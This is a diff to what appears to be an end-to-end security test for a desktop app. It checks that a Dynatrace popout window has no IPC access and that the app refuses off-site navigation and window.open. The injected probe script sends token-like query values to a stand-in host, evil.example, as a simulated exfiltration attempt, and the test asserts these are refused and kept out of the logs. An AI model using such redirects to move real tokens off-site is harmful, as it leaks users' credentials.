@@ -228,6 +228,43 @@ def check_popout_borrows_the_session(sid):
           "aux_session aux-only")
 
 
+def check_dynatrace_popout(sid):
+    """open_dynatrace builds the popout with the Dynatrace navigation rule (not the app lockdown
+    and not none): a navigation off Dynatrace from inside the popout is refused by the Dynatrace
+    handler (its own log line, origin only), window.open there is refused, and the popout has no
+    IPC. There is no network here, so the Dynatrace page itself does not load; the checks run on
+    whatever page the popout shows."""
+    main_handle = call("GET", f"/session/{sid}/window")["value"]
+    before = set(call("GET", f"/session/{sid}/window/handles")["value"])
+    opened = invoke(sid, "open_dynatrace", {"url": "https://abc12345.live.dynatrace.com/ui/dashboards?dt=dt-query-777"})
+    assert opened.get("ok") == "dynatrace", opened
+    new = wait_for("the Dynatrace popout",
+                   lambda: set(call("GET", f"/session/{sid}/window/handles")["value"]) - before, timeout=15)
+    popout = new.pop()
+    call("POST", f"/session/{sid}/window", {"handle": popout})
+    probe = ("const done = arguments[arguments.length - 1];"
+             "const t = window.__TAURI_INTERNALS__;"
+             "const ipc = t ? t.invoke('health').then(() => 'allowed', () => 'refused') : Promise.resolve('absent');"
+             "ipc.then((ipc) => {"
+             "  const w = window.open('https://evil.example/dt-popup?token=dt-secret-1');"
+             "  location.href = 'https://evil.example/dt-phish?token=dt-secret-2';"
+             "  setTimeout(() => done({ipc, popup: w === null ? null : 'opened'}), 1500);"
+             "});")
+    result = call("POST", f"/session/{sid}/execute/async", {"script": probe, "args": []})["value"]
+    assert result["ipc"] in ("absent", "refused"), f"the Dynatrace popout must have no IPC: {result}"
+    line = wait_for("the Dynatrace handler's refusal in the app log",
+                    lambda: [l for l in log_text().splitlines() if "dynatrace popout navigation blocked" in l],
+                    timeout=15)
+    assert "evil.example" in line[-1], line[-1]
+    assert "dt-secret" not in log_text() and "dt-query-777" not in log_text(), "full URLs logged"
+    handles = set(call("GET", f"/session/{sid}/window/handles")["value"])
+    assert handles == before | {popout}, f"window.open created a window: {handles}"
+    call("DELETE", f"/session/{sid}/window")
+    call("POST", f"/session/{sid}/window", {"handle": main_handle})
+    print(f"ok   Dynatrace popout: off-site navigation refused by its own handler, window.open refused, "
+          f"no IPC ({result})")
+
+
 def main():
     app = os.path.abspath(sys.argv[1])
     # No session bus: the app keeps its passphrase in the data directory file (development
@@ -299,6 +336,7 @@ def main():
         print(f"ok   navigation to another origin blocked, window.open refused ({result})")
 
         check_window_open_handler(sid)
+        check_dynatrace_popout(sid)
         check_connect_src(sid, info["ok"]["serverUrl"])
         sign_in_flow(sid, info["ok"]["serverUrl"], secret)
 
